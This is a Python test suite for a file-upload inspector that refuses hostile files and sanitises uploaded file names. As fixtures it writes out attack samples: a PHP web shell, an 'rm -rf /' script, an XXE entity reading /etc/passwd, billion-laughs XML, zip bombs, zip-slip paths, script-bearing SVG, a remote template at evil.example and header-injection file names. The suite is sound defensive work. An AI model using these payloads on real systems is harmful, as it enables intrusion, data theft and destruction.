"""Hostile files are refused or inert; sound ones pass, whatever their names."""

from __future__ import annotations

import io
import resource
import struct
import zipfile
import zlib
from contextlib import suppress

import pypdf
import pytest
import weasyprint
from hypothesis import given, settings
from hypothesis import strategies as st

from cocon.files import inspection
from cocon.files.inspection import examine, safe_name
from cocon.files.refusals import Unreadable
from tests.files.making import PDF, SOUND, XML, docx, image, odf, xlsx, zipped

ARCHIVE = zipped({"payload.txt": b"hidden"})
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><document>&e;</document>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><document>&b;</document>'
LATE = b'<?xml version="1.0"?>' + b"<!-- " + b"x" * 100_000 + b' --><!DOCTYPE x SYSTEM "http://127.0.0.1/x.dtd"><d/>'
UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><d/>'.encode("utf-16")
TEMPLATE = (
    XML + b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
TYPES = docx()["[Content_Types].xml"]


def chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))


def huge_png(width: int, height: int) -> bytes:
    """A PNG that says that it is enormous."""
    head = chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def huge_jpeg() -> bytes:
    """A JPEG that says that it is enormous."""
    made = bytearray(SOUND["jpeg"])
    place = made.index(b"\xff\xc0")
    made[place + 5 : place + 9] = struct.pack("!HH", 65_000, 65_000)
    return bytes(made)


def linked() -> bytes:
    """A member that is a symbolic link."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in docx().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/media/lien")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def locked() -> bytes:
    """An archive whose members say that they are enciphered."""
    made = bytearray(zipped(docx()))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + offset] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


def twice() -> bytes:
    """Two members of one name: readers disagree on which one counts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in docx().items():
            archive.writestr(name, content)
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("word/document.xml", b"<other/>")
    return made.getvalue()


def packed(method: int) -> bytes:
    """A member packed in a way that office programs do not use."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in docx().items():
            archive.writestr(name, content)
    return made.getvalue()


def lying() -> bytes:
    """A member that says less than it unpacks to."""
    made = bytearray(zipped(docx(**{"word/media/a.xml": XML + b"<a>" + b"x" * 100_000 + b"</a>"})))
    place = made.rfind(b"PK\x01\x02", 0, made.rfind(b"word/media/a.xml"))
    made[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(made)


def reordered(members: dict[str, bytes], first: str) -> dict[str, bytes]:
    return {first: members[first], **members}


HOSTILE: dict[str, bytes] = {
    # Nothing, or something else
    "empty": b"",
    "text": b"Bonjour",
    "csv": b"a;b\n1;2\n",
    "html": b"<!doctype html><script>alert(1)</script>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg named as an image": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "xml": XML + b"<a/>",
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "program": b"MZ" + b"\0" * 200,
    "elf": b"\x7fELF" + b"\0" * 200,
    "gif": b"GIF89a" + b"\0" * 20,
    "bmp": b"BM" + b"\0" * 60,
    "tiff": b"II*\0" + b"\0" * 60,
    "webp": b"RIFF\0\0\0\0WEBP",
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rar": b"Rar!\x1a\x07\x00" + b"\0" * 60,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 60,
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
    "rtf": b"{\\rtf1 bonjour}",
    "eps": b"%!PS-Adobe-3.0 EPSF\n%%EOF",
    "nul": b"\0" * 1000,
    # Documents that are not what they begin like
    "pdf head only": b"%PDF-1.4\n",
    "pdf of two lines": b"%PDF-1.4\n%%EOF",
    "pdf without an object": b"%PDF-1.4\nstartxref\n9\n%%EOF\n",
    "pdf without its table": PDF.replace(b"startxref", b"start"),
    "pdf without its end": PDF.replace(b"%%EOF", b""),
    "pdf cut": PDF[:90],
    "pdf too far": b"\n" * 1100 + PDF,
    "pdf after a program": b"MZ" + b"\0" * 200 + PDF,
    "pdf after a script": b"#!/bin/sh\nexit\n" + PDF,
    "pdf after html": b"<html><script>1</script>" + PDF,
    "pdf of no version": b"%PDF-x" + PDF[8:],
    "pdf and archive": PDF + ARCHIVE,
    "pdf and document": PDF + SOUND["docx"],
    "png cut": SOUND["png"][:40],
    "png and html": SOUND["png"] + b"<script>alert(1)</script>",
    "png and archive": SOUND["png"] + ARCHIVE,
    "png of a false sum": SOUND["png"].replace(b"IHDR", b"IHDX"),
    "png huge": huge_png(50_000, 50_000),
    "png wide": huge_png(2**31 - 1, 1),
    "jpeg cut": SOUND["jpeg"][:100],
    "jpeg head only": b"\xff\xd8\xff\xe0" + b"\0" * 40,
    "jpeg and archive": SOUND["jpeg"] + ARCHIVE,
    "jpeg and script": SOUND["jpeg"] + b"<?php phpinfo(); ?>",
    "jpeg huge": huge_jpeg(),
    # Archives that are no document
    "archive": ARCHIVE,
    "archive cut": SOUND["docx"][:-30],
    "archive after bytes": b"\0" * 10 + SOUND["docx"],
    "document after a first archive": ARCHIVE + SOUND["docx"],
    "jar": zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "A.class": b"\xca\xfe\xba\xbe"}),
    "epub": zipped({"mimetype": b"application/epub+zip", "META-INF/container.xml": XML + b"<c/>"}),
    "presentation": zipped(odf("presentation")),
    "odf whose type is not first": zipped({"content.xml": XML + b"<a/>", **odf()}),
    "odf without content": zipped({"mimetype": odf()["mimetype"]}),
    "docx without relations": zipped({k: v for k, v in docx().items() if k != "_rels/.rels"}),
    "docx without document": zipped({k: v for k, v in docx().items() if k != "word/document.xml"}),
    "docx and xlsx": zipped({**xlsx(), **docx(), "[Content_Types].xml": TYPES + xlsx()["[Content_Types].xml"]}),
    "template of Word": zipped(docx() | {"[Content_Types].xml": TYPES.replace(b"document.main", b"template.main")}),
    # Bombs
    "bomb": zipped(docx(**{"word/media/a.bin": b"\0" * 8_000_000})),
    "bomb of many": zipped(docx(**{f"word/a{n}.txt": b"" for n in range(inspection.MOST_MEMBERS)})),
    "bomb in odf": zipped(odf(**{"Pictures/a.bin": b"\0" * 8_000_000})),
    "member that lies": lying(),
    # Names that wander
    "slip": zipped(docx(**{"../../etc/cron.d/x": b"x"})),
    "slip inside": zipped(docx(**{"word/../../x": b"x"})),
    "absolute": zipped(docx(**{"/etc/passwd": b"x"})),
    "backslash": zipped(docx(**{"word\\..\\..\\x": b"x"})),
    "drive": zipped(docx(**{"C:x": b"x"})),
    "control in a name": zipped(docx(**{"word/a\r\nb.xml": b"<a/>"})),
    "turned name": zipped(docx(**{"word/\u202excod.xml": b"<a/>"})),
    "link": linked(),
    "locked": locked(),
    "same name twice": twice(),
    "packed by bzip2": packed(zipfile.ZIP_BZIP2),
    "packed by lzma": packed(zipfile.ZIP_LZMA),
    # What acts
    "macros": zipped(docx(**{"word/vbaProject.bin": b"x"})),
    "macros in capitals": zipped(docx(**{"word/VBAPROJECT.BIN": b"x"})),
    "macros moved": zipped(docx(**{"x/y/vbaProject.bin": b"x"})),
    "macros in the types": zipped(docx() | {"[Content_Types].xml": TYPES + b"macroEnabled"}),
    "macros of xlsm": zipped(docx() | {"[Content_Types].xml": TYPES + b"application/vnd.ms-office.vbaProject"}),
    "sheets of macros": zipped({**xlsx(), "xl/macrosheets/sheet1.xml": XML + b"<a/>"}),
    "activex": zipped(docx(**{"word/activeX/activeX1.xml": XML + b"<a/>"})),
    "ole": zipped(docx(**{"word/embeddings/oleObject1.bin": b"x"})),
    "basic in odf": zipped(odf(**{"Basic/Standard/Module1.xml": XML + b"<a/>"})),
    "scripts in odf": zipped(odf(**{"Scripts/python/x.py": b"x"})),
    "program inside": zipped(docx(**{"word/embeddings/a.exe": b"MZ"})),
    "html inside": zipped(docx(**{"word/a.html": b"<script>"})),
    "locked odf": zipped(odf() | {"META-INF/manifest.xml": XML + b"<m><manifest:encryption-data/></m>"}),
    # What is fetched or declared
    "entity in docx": zipped(docx() | {"word/document.xml": ENTITY}),
    "entity in xlsx": zipped(xlsx() | {"xl/workbook.xml": ENTITY}),
    "entity in odt": zipped(odf() | {"content.xml": ENTITY}),
    "entity in relations": zipped(docx() | {"_rels/.rels": ENTITY}),
    "laughs": zipped(docx() | {"word/document.xml": LAUGHS}),
    "entity after a long comment": zipped(docx() | {"word/document.xml": LATE}),
    "entity in utf-16": zipped(docx() | {"word/document.xml": UTF16}),
    "no xml": zipped(docx() | {"word/document.xml": b"\0\1\2"}),
    "template from elsewhere": zipped(docx(**{"word/_rels/settings.xml.rels": TEMPLATE})),
}  # fmt: skip

NAMES = {
    "rapport.pdf": "rapport.pdf",
    "Rapport d’activité 2014.PDF": "Rapport d’activité 2014.pdf",
    "facture.pdf.exe": "facture.pdf.pdf",
    "facture.exe.pdf": "facture.exe.pdf",
    "page.html": "page.pdf",
    "dessin.svg": "dessin.pdf",
    "sans extension": "sans extension.pdf",
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\system.ini": "system.ini.pdf",
    "C:\\fakepath\\devis.pdf": "devis.pdf",
    "/": "piece.pdf",
    "": "piece.pdf",
    "...": "piece.pdf",
    ".htaccess": "htaccess.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "a Set-Cookie x=1.pdf",
    'a"; filename="b.html': "a filename= b.pdf",
    "fdp\u202efdp.exe": "fdp fdp.pdf",
    "\u2066caché\u2069.pdf": "caché.pdf",
    "a\0b.pdf": "a b.pdf",
    "\ud800.pdf": "pdf.pdf",
    "a" * 500 + ".pdf": "a" * 120 + ".pdf",
    "l’été 😀.pdf": "l’été 😀.pdf",
    "CON.pdf": "CON.pdf",
    "a?b*c|d<e>f:g.pdf": "a b c d e f g.pdf",
    "e\u0301te\u0301.pdf": "été.pdf",
    "100%41.pdf": "100 41.pdf",
}


@pytest.mark.parametrize("kind", list(SOUND))
def test_sound_files_are_known_by_their_content(kind: str) -> None:
    found = examine(SOUND[kind])
    assert found.format == kind
    assert found.size == len(SOUND[kind])
    assert len(found.sha256) == 64


LINEARIZED = (
    PDF[:9] + b"4 0 obj<</Linearized 1/L 400/H[1 2]/O 6/E 300/N 1/T 200>>endobj\nxref\n4 1\n0000000009 00000 n \n"
    b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n0\n%%EOF\n" + PDF[9:]
)
PDFS = {
    "linearized": LINEARIZED,
    "rewritten": PDF + b"5 0 obj<</Producer(x)>>endobj\nstartxref\n90\n%%EOF",
    "of Windows": PDF.replace(b"\n", b"\r\n"),
    "after a mark": b"\xef\xbb\xbf" + PDF,
    "after orders of a printer": b"\x1b%-12345X@PJL SET RESOLUTION=600\n@PJL ENTER LANGUAGE=PDF\n" + PDF,
    "after a thousand bytes": b"\0" * 1000 + PDF,
    "before zeros": PDF + b"\0" * 1024,
}


@pytest.mark.parametrize("what", list(PDFS))
def test_every_way_of_writing_a_pdf_passes(what: str) -> None:
    assert examine(PDFS[what]).format == "pdf"


def test_the_pdf_of_a_printer_passes() -> None:
    """By the libraries that write most of them: WeasyPrint, whose objects are packed, and pypdf."""
    laid_out = weasyprint.HTML(string="<p>Une fiche").write_pdf()
    assert examine(laid_out).format == "pdf"
    made = io.BytesIO()
    pypdf.PdfWriter(clone_from=io.BytesIO(laid_out)).write(made)
    assert examine(made.getvalue()).format == "pdf"


@pytest.mark.parametrize("what", list(HOSTILE))
def test_hostile_files_are_refused_with_a_sentence(what: str) -> None:
    with pytest.raises(Unreadable) as refused:
        examine(HOSTILE[what])
    assert str(refused.value).endswith(".")
    assert refused.value.status == 422


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) + len(NAMES) >= 60


def test_refusals_say_what_to_do() -> None:
    said = {
        "macros": inspection.MACROS,
        "bomb": inspection.BOMB,
        "png huge": inspection.PIXELS,
        "jpeg huge": inspection.PIXELS,
        "locked": inspection.LOCKED,
        "locked odf": inspection.LOCKED,
        "entity in utf-16": inspection.ENTITIES,
        "entity after a long comment": inspection.ENTITIES,
        "pdf and archive": inspection.HIDDEN,
        "template from elsewhere": inspection.REMOTE,
        "empty": inspection.EMPTY,
    }
    for what, sentence in said.items():
        with pytest.raises(Unreadable) as refused:
            examine(HOSTILE[what])
        assert str(refused.value) == str(sentence), what


def test_a_document_of_ordinary_density_passes() -> None:
    rows = b"".join(b"<row><c><v>%d</v></c></row>" % number for number in range(150_000))
    assert examine(zipped({**xlsx(), "xl/worksheets/sheet1.xml": XML + b"<s>" + rows + b"</s>"})).format == "xlsx"


def test_a_picture_of_a_good_camera_passes() -> None:
    assert examine(huge_png(8_000, 6_000)).format == "png"
    assert examine(image("JPEG", (600, 400)) + b"\0\0").format == "jpeg"


def test_looking_at_bombs_takes_little_memory() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for what, content in HOSTILE.items():
        if "bomb" in what or "huge" in what or "lies" in what:
            with pytest.raises(Unreadable):
                examine(content)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000


@pytest.mark.parametrize("sent", list(NAMES))
def test_names_are_made_safe(sent: str) -> None:
    assert safe_name(sent, "pdf") == NAMES[sent]


@given(st.text(max_size=300))
@settings(max_examples=100, deadline=None)
def test_any_name_becomes_one_that_any_disk_holds(sent: str) -> None:
    made = safe_name(sent, "jpeg")
    assert made.endswith(".jpg")
    assert len(made) <= 130
    assert not set(made) & set('<>:"/\\|?*;%\r\n\0\u202e\u2066')
    assert not made.startswith((".", " "))
    assert made == safe_name(made, "jpeg")
    made.encode()


@given(st.sampled_from(sorted(SOUND)), st.integers(0, 10_000), st.binary(min_size=1, max_size=8))
@settings(max_examples=120, deadline=None)
def test_damaged_files_never_crash(kind: str, place: int, bytes_put: bytes) -> None:
    content = bytearray(SOUND[kind])
    place %= len(content)
    content[place : place + len(bytes_put)] = bytes_put
    with suppress(Unreadable):
        assert examine(bytes(content)).format in inspection.FORMATS
